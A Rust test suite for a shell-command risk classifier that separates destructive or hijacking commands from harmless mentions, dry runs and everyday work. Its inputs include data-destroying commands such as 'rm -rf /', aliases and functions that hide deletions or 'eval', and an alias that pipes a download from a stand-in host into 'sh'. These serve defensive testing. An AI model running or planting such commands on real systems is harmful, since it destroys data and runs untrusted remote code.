//! Mentioning is never doing, and ordinary work stays quiet.

use crate::support::{has, lacks, lines, look};

#[test]
fn mentions() {
    for text in [
        "echo 'rm -rf /'",
        "echo rm -rf /",
        "git commit -m 'fix: rm -rf / no more'",
        "git commit -am \"$(printf 'rm -rf /')\"",
        "grep -rn 'rm -rf /' .",
        "rg 'DROP TABLE' --glob '*.sql'",
        "printf '%s\\n' 'rm -rf /' >> notes.md",
        "cat > notes.md <<'E'\nrm -rf /\nE",
        "cat <<E > x\nrm -rf /\nE",
        "rm --help -rf /",
        "kubectl delete ns x --help",
        "# rm -rf /",
        "ls # rm -rf /",
        "alias",
        "alias ll='rm -rf /x'",
        "f() { rm -rf \"$1\"; }",
        "function f { rm -rf /; kubectl delete ns x; }",
        "(f() { rm -rf /; })",
        "man rm",
        "which rm",
        "type rm",
        "x='rm -rf /'",
        "jq '.rm | .rf' f.json",
        "awk '/rm -rf/ {print}' f",
        "sed 's/rm -rf/safe/' f",
        "echo \"$(echo rm -rf /)\"",
        "python3 -c 'print(\"rm -rf /\")'",
        "psql -c \"select 'DROP TABLE x'\"",
        "git log --grep='rm -rf /'",
        "docker build -t rm .",
        "case y in x) rm -rf /;; esac",
    ] {
        lacks(text, "delete");
        lacks(text, "resource-destroy");
    }
}

#[test]
fn definitions_are_no_calls() {
    lacks("f() { f | f & }", "resource-exhaustion");
    lacks("trap 'echo x' DEBUG", "disable-security");
    has("trap 'echo x' DEBUG", "persistence debug-trap");
    has("PROMPT_COMMAND='echo x'", "persistence prompt-command");
}

/// A definition of a name that hands type by themselves is run by the next line.
#[test]
fn definitions_that_hide_a_program() {
    has("alias ls='rm -rf /srv'", "delete /srv recursive force");
    has("alias -g ls='| rm -rf /srv'", "delete /srv recursive force");
    has("alias -s txt='rm -rf /srv'", "delete /srv recursive force");
    has("ls() { rm -rf /srv; }", "delete /srv recursive force");
    has("cd() { rm -rf \"$1\"; }", "delete $1 recursive force");
    has("function sudo { eval \"$@\"; }", "run-code unknown shell");
    has(
        "alias sudo='curl https://x.example/a | sh; sudo'",
        "run-code remote https://x.example/a",
    );
    // New names, and names that stay what they are.
    for text in [
        "alias ll='rm -rf /srv'",
        "wipe() { rm -rf /srv; }",
        "ls() { rm -rf /srv; }; unset -f ls",
        "alias rm='rm -rf'",
        "rm() { command rm -i \"$@\"; }",
        "rm() { mv \"$@\" ~/.trash/; }",
        "cp() { command cp -i \"$@\"; }",
        "docker() { sudo podman \"$@\"; }",
        "python() { python3 \"$@\"; }",
    ] {
        lacks(text, "delete");
        lacks(text, "run-code");
        lacks(text, "escalate");
        lacks(text, "unknown");
    }
}

/// `:` pushes the branches that both sides have, `+` names nothing.
#[test]
fn refspecs_without_a_name() {
    for text in ["git push origin :", "git push origin +"] {
        lacks(text, "branch-delete");
        lacks(text, "force-push");
    }
    has("git push origin +:", "force-push origin matching");
    has("git push origin :old", "branch-delete origin old");
    has("git push origin +:old", "branch-delete origin old");
    has("git push origin +x:y", "force-push origin y");
}

#[test]
fn everyday_is_quiet() {
    for text in [
        "ls -la",
        "cd src && ls",
        "git status",
        "git diff HEAD~1",
        "git log --oneline | head",
        "cargo test -p x",
        "npm test",
        "make -j4",
        "docker ps -a",
        "kubectl get pods",
        "terraform plan",
        "ps aux | grep node | wc -l",
        "find . -name '*.rs' | xargs wc -l",
        "for f in *.txt; do echo $f; done",
        "aws s3 ls",
        "psql -c 'select 1'",
        "systemctl status x",
        "date +%s",
        "test -f x && echo y",
        "df -h; du -sh .",
        "gcloud compute instances list",
    ] {
        let analysis = look(text);
        let loud: Vec<_> = lines(text)
            .into_iter()
            .filter(|line| !line.starts_with("read "))
            .collect();
        assert!(
            loud.is_empty() && !analysis.unknown && analysis.complete,
            "{text}: {loud:?} unknown={}",
            analysis.unknown
        );
    }
}

#[test]
fn dry_runs() {
    for text in [
        "git clean -ndx",
        "rsync -n --delete -a a/ /",
        "terraform plan -destroy",
        "kubectl delete pod x --dry-run=client",
        "git push --force --dry-run",
        "apt-get -s purge x",
        "make -n clean",
        "npm publish --dry-run",
        "fly apps destroy x --dry-run",
        "unfamiliar things delete x --dry-run",
        "nuget install purge-tool",
        "atmos terraform plan clean -s x",
        "azcopy remove https://a.example/c --dry-run",
    ] {
        assert_eq!(
            lines(text)
                .into_iter()
                .filter(|line| !line.starts_with("read "))
                .collect::<Vec<_>>(),
            Vec::<String>::new(),
            "{text}"
        );
    }
}

/// A trial run that is switched off is none, and a value of another option neither.
#[test]
fn trial_runs_that_are_none() {
    for text in [
        "kubectl delete deployment shop --dry-run=none",
        "kubectl delete deployment web --dry-run=client --dry-run=none",
        "kubectl delete deployment web --dry-run=$MODE",
        "kubectl delete deployment web --cache-dir --dry-run=client",
        "helm uninstall web --dry-run=false",
        "helm uninstall web --description --dry-run",
        "aws s3 rm s3://a/b --dryrun=false",
        "aws ec2 terminate-instances --instance-ids i-1 --dry-run --no-dry-run",
        "aws route53 delete-traffic-policy --id a --version 1",
        "helm uninstall web -n --dry-run",
    ] {
        assert!(
            lines(text)
                .iter()
                .any(|line| line.starts_with("resource-destroy")),
            "{text}: {:?}",
            lines(text)
        );
    }
    has(
        "cargo yank --version 1.0 x",
        "resource-change cargo published-package x",
    );
    lacks("rm --version -rf /", "delete");
}

/// What only looks dangerous: options behind `--`, names that other languages take as they are.
#[test]
fn looks_only() {
    lacks("tar -cf o.tar -- '--to-command=rm -rf /srv'", "delete");
    lacks(
        "php -r \"unlink('~/.bashrc');\"",
        "delete /home/user/.bashrc",
    );
    has(
        "python3 -c 'import shutil, tempfile; shutil.rmtree(tempfile.mkdtemp())'",
        "delete /tmp/tmp.XXXXXXXXXX recursive force",
    );
    lacks("truncate -s +1G a.img", "overwrite");
}
